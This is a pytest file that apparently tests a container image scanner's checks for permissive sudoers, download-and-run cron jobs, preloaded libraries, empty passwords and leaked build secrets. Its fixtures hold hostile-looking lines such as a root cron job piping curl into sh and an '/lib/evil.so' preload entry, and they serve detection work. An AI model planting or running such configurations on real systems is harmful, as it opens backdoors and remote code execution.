"""All checks run over an image; a finding says what, where, which layer, and keeps its id."""

import pytest
from msgspec.structs import replace

from pratique.checks.image.interface import MOST_LINES, File, sample
from pratique.model.finding import Evidence, Finding, FindingKind
from pratique.model.image import HistoryEntry
from pratique.model.severity import Severity
from pratique.pipelines.check_image import check_image, told_places, wanted
from tests.makers.checked import checked, scene_of_sample

SUDOERS = (("etc/sudoers", "root ALL=(ALL) ALL\napp ALL=(ALL) NOPASSWD: ALL\n"),)


def test_a_finding_carries_its_evidence() -> None:
    """Kind, rule, other names, path, line and layer; the id is made of rule and place."""
    (finding,) = checked(sample((("etc/motd", "x"),), SUDOERS)).findings

    assert finding.kind is FindingKind.CONFIG
    assert finding.rule == "permissive-sudoers"
    assert finding.id == "config:permissive-sudoers:etc/sudoers"
    assert finding.severity is Severity.HIGH
    assert (finding.location, finding.line) == ("etc/sudoers", 2)
    assert finding.layer is not None
    assert finding.layer.index == 1
    assert finding.evidence[0].name == "etc/sudoers:2"


def test_an_id_survives_a_rebuild() -> None:
    """Another layer below, another digest: the same bad thing has the same id."""
    before = checked(sample(SUDOERS)).findings
    after = checked(sample((("etc/motd", "new"),), SUDOERS)).findings

    assert [one.id for one in before] == [one.id for one in after]
    assert before[0].layer != after[0].layer


def test_no_two_findings_share_an_id() -> None:
    """Two layers that show the same are two findings."""
    history = tuple(HistoryEntry(created_by="RUN apt-get update") for _ in range(2))
    found = checked(sample((("a", "1"),), (("b", "2"),), history=history)).findings

    assert [one.rule for one in found] == ["update-alone", "update-alone"]
    assert len({one.id for one in found}) == 2


def test_what_a_later_layer_hides_is_told_as_hidden() -> None:
    """The bytes still ship: the finding names the layer that has them and the one that hides them."""
    (finding,) = checked(sample((("srv/.env", "A=b"),), (("srv/.wh..env", ""),))).findings

    assert finding.rule == "environment-file-left"
    assert finding.layer is not None
    assert finding.hidden_by is not None
    assert (finding.layer.index, finding.hidden_by.index) == (0, 1)


def test_no_value_of_a_secret_is_told() -> None:
    """Names and ways only, whichever check speaks."""
    value = "not-" + "shown-here-9"
    history = (
        HistoryEntry(created_by=f"RUN |1 NPM_TOKEN={value} /bin/sh -c curl -u a:{value} https://x"),
    )
    one = sample((("a", "1"),), history=history, env=(f"DB_PASSWORD={value}",))
    found = checked(one).findings

    assert {finding.rule for finding in found} == {
        "secret-in-build-argument",
        "secret-in-environment",
        "secret-on-command-line",
    }
    said = [replace(finding, layer=None) for finding in found]
    assert value not in repr(said)


def test_what_the_secrets_scanner_told_is_not_told_twice() -> None:
    """Places in the config are taken from its findings, evidence too."""
    secret = Finding(
        id="s",
        kind=FindingKind.SECRET,
        rule="r",
        location="config: ENV DB_PASSWORD",
        evidence=(Evidence(advisory="r", feed="pratique", name="config: build step 1"),),
    )
    value = "not-" + "shown-here-9"
    history = (HistoryEntry(created_by=f"ARG DB_PASSWORD={value}", empty_layer=True),)
    scene = scene_of_sample(sample(history=history, env=(f"DB_PASSWORD={value}",)))

    assert len(check_image(scene).findings) == 2
    assert check_image(replace(scene, told=told_places([secret]))).findings == ()


def test_a_file_that_cannot_be_read_is_unknown() -> None:
    """Too large to be kept: the check says so, the others stand."""
    large = File("#" * (1 << 20) + "\nA=b\n")
    found = checked(sample((("etc/ssh/sshd_config", large),), user="0"))

    assert [one.rule for one in found.findings] == ["root-user"]
    assert "CIS-DI-0001" in found.findings[0].names
    assert [one.unit for one in found.unknowns] == ["permissive-sshd"]


@pytest.mark.parametrize(
    ("rule", "good", "bad", "line"),
    [
        ("permissive-sudoers", "etc/sudoers.d/z", "etc/sudoers.d/a", "app ALL=(ALL) NOPASSWD: ALL"),
        ("permissive-sudoers", "etc/sudoers.d/a", "etc/sudoers.d/z", "app ALL=(ALL) NOPASSWD: ALL"),
        ("download-in-cron", "etc/cron.d/a", "etc/cron.d/z", "* * * * * root curl x.example | sh"),
        (
            "unverified-package-source",
            "etc/yum.repos.d/z.repo",
            "etc/yum.repos.d/a.repo",
            "gpgcheck=0",
        ),
        (
            "permissive-sshd",
            "etc/ssh/sshd_config",
            "etc/ssh/sshd_config.d/a.conf",
            "StrictModes no",
        ),
        (
            "permissive-sshd",
            "etc/ssh/sshd_config.d/a.conf",
            "etc/ssh/sshd_config",
            "StrictModes no",
        ),
        ("duplicate-account", "etc/group", "etc/passwd", "a:x:7:\nb:x:7:"),
        ("duplicate-account", "etc/passwd", "etc/group", "a:x:7:7:::\nb:x:7:7:::"),
        ("empty-password", "etc/shadow", "etc/passwd", "a::1::::::"),
        ("empty-password", "etc/passwd", "etc/shadow", "a::7:7:::/bin/sh"),
    ],
)
def test_a_file_that_cannot_be_read_hides_no_other(
    rule: str, good: str, bad: str, line: str
) -> None:
    """What stands in a file before or behind it is told, and that it was not read as well."""
    large = File("#" * (1 << 20) + "\nA=b\n")
    found = checked(sample(((good, line + "\n"), (bad, large))))

    assert [one.rule for one in found.findings if one.rule == rule] == [rule]
    assert rule in {one.unit for one in found.unknowns}


def test_lines_before_what_is_too_much_are_told() -> None:
    """A file of libraries that has more lines than are read has not hidden its first."""
    lines = "/lib/evil.so\n" + "#\n" * (MOST_LINES + 1)
    found = checked(sample((("etc/ld.so.preload", lines),)))

    assert [one.rule for one in found.findings] == ["preloaded-library"]
    assert [one.unit for one in found.unknowns] == ["preloaded-library"]


def test_files_are_asked_for() -> None:
    """Whoever reads layers learns which bytes the checks need; each asks for small files only."""
    patterns = wanted()

    assert any("etc/passwd" in one.paths for one in patterns)
    assert all(one.max_bytes <= 1 << 20 for one in patterns)
